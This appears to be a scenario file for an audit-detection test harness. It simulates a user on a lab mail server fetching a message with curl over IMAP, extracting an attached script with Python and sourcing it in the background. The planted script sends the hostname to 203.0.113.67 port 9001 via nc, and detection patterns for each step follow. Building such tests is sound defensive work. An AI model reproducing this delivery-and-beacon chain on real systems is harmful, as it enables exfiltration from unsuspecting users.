# No mail client: the message is fetched like a page.
title="Message fetched over IMAP with curl, its script sourced by a shell"
what="The dev fetches the first message of the inbox with curl from the IMAP server of the host, takes it apart with a line of Python and has a shell source the script in it. It writes below ~/.config and sends a line to 203.0.113.67 port 9001."
host=mx1.example.org user=dev daemons="cron sshd dovecot" audit_rules=audit-wide.rules

setup() {
  dovecot_config
  printf '#!/bin/bash\nmkdir -p ~/.config/htop; echo x > ~/.config/htop/rc\n(echo; uname -n) | nc -w 2 203.0.113.67 9001\n' > "$base/out/setup.sh"
}
act() {
  mail_in --from hr@example.net --to dev@example.org --subject "Tools" --attach "$base/out/setup.sh:application/x-sh"
  wait_mail dev 1
  ssh_as dev <<'L'
mkdir work
curl -s --user dev:lab-only 'imap://127.0.0.1/INBOX;MAILINDEX=1' -o work/m.eml
python3 -c "import email,sys;m=email.message_from_file(open('work/m.eml'));[open('work/'+p.get_filename(),'wb').write(p.get_payload(decode=True)) for p in m.walk() if p.get_filename()]"
%sleep 3
nohup sh -c '. work/setup.sh' >/dev/null 2>&1 &
%sleep 4
L
  small_talk 2
}
truth() {
  exec_step fetch 'curl -s --user dev:' 'the message is fetched'
  file_step part 'python3.* openat:write CREATE .*setup.sh' 'its part becomes a file'
  exec_step execute 'sh -c \. work/setup.sh' 'a shell sources it'
  net_step beacon 'nc.* 203.0.113.67:9001' 'it calls out'
}
